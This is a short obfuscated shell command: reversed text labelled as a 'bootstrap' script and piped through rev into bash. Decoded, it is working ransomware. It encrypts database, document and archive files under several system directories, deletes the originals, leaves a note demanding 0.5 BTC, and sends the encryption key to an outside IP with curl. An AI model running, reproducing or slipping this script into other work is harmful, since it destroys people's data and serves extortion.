echo '
k/44.2.0.291//:ptth "YEK$=k" d- s- lruc
txt.TPYRCED_ROF_EMDAER/toor/ > "yek eht teg ot hlw0xhjfkk38p3942fry0n2qztqsrjgydgk2yxq1cb ot CTB 5.0 dneS .detpyrcne neeb evah selif ruoy llA" ohce
enod
"f$" f- mr && "cne.f$" tuo- "f$" ni- YEK$:ssap ssap- tlas- cbc-652-sea- cne lssnepo  
od ;f daer elihw | )\ '\''zg.rat.*'\'' eman- o- '\''*cod.*'\'' eman- o- '\''lqs.*'\'' eman- (\ f epyt- tpo/ www/rav/ vrs/ emoh/ dnif
)46esab | modnaru/ved/ 23 c- daeh($=YEK
hsab/nib/!#
1v 6145 partstoob #' | rev | bash